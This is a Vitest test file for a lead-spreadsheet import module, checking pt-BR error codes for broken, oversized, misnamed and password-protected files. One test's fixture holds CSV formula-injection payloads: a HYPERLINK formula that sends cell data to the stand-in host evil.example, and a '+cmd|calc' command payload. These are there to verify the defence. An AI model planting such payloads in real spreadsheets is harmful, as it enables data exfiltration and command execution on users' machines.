import { describe, expect, it } from 'vitest'
import { decryptOoxml } from '../../../shared/import/workbook/decryptOoxml'
import { readLeadFile } from '../../../shared/import/readLeadFile'
import { column, dataRowNumbers, fixtureBytes, importErrorOf, readFixture } from './fixtures'

describe('broken files get their own error code and a pt-BR message', () => {
  it.each([
    ['leads/broken/empty.csv', 'empty_file'],
    ['leads/broken/only-header.csv', 'no_data_rows'],
    ['leads/broken/garbage.xlsx', 'not_a_spreadsheet'],
    ['leads/broken/truncated.xlsx', 'damaged_file'],
    ['leads/broken/page-saved-as.xls', 'html_no_table'],
    ['leads/broken/password-protected.xlsx', 'password_required']
  ])('%s → %s', (path, code) => {
    const error = importErrorOf(() => readFixture(path))
    expect(error.code).toBe(code)
    expect(error.message).toMatch(/[a-zà-ú]{3}/)
  })

  it('an unterminated quote names the row it opens on', () => {
    const error = importErrorOf(() => readFixture('leads/broken/unterminated-quote.csv'))
    expect([error.code, error.params.row]).toEqual(['unterminated_quote', 2])
    expect(error.message).toContain('linha 2')
  })

  it('a file over the size limit states the limit', () => {
    const error = importErrorOf(() =>
      readLeadFile(new Uint8Array(3 * 1024 * 1024), 'big.csv', { maxBytes: 2 * 1024 * 1024 })
    )
    expect(error.code).toBe('file_too_large')
    expect(error.message).toContain('limite de 2 MB')
  })

  it('a CSV named .xlsx is read as CSV with a notice', () => {
    const table = readFixture('leads/broken/csv-named-as.xlsx')
    expect(table.format).toBe('csv')
    expect(table.notices).toContainEqual({
      code: 'read_as_csv',
      params: { extension: 'xlsx', format: 'csv' }
    })
    expect(column(table, table.phoneColumn)).toBe('Telefone')
    expect(table.dataRows.length).toBe(500)
  })

  it('formula-looking cells import as plain text, nothing evaluated', () => {
    const table = readFixture('leads/broken/formula-injection.csv')
    expect(dataRowNumbers(table)).toEqual([2, 3])
    expect(table.grid.row(table.dataRows[0] ?? 0)).toEqual([
      '=HYPERLINK("http://evil.example/?x="&A1;"clique")',
      '(11) 98765-4321',
      '+cmd|calc'
    ])
    expect(table.grid.row(table.dataRows[1] ?? 0)).toEqual(['@SUM(1+1)', '(21) 99876-5432', '-2+3'])
  })

  it('the password-protected file opens once decrypted with senha123 (workbook helper)', async () => {
    const bytes = await decryptOoxml(
      fixtureBytes('leads/broken/password-protected.xlsx'),
      'senha123'
    )
    const table = readLeadFile(bytes, 'password-protected.xlsx')
    expect(table.format).toBe('xlsx')
    expect(table.phoneColumn).not.toBeNull()
  })

  it('a wrong password is told apart from a missing one', async () => {
    const bytes = fixtureBytes('leads/broken/password-protected.xlsx')
    await expect(decryptOoxml(bytes, 'errada')).rejects.toMatchObject({ code: 'wrong_password' })
  })
})
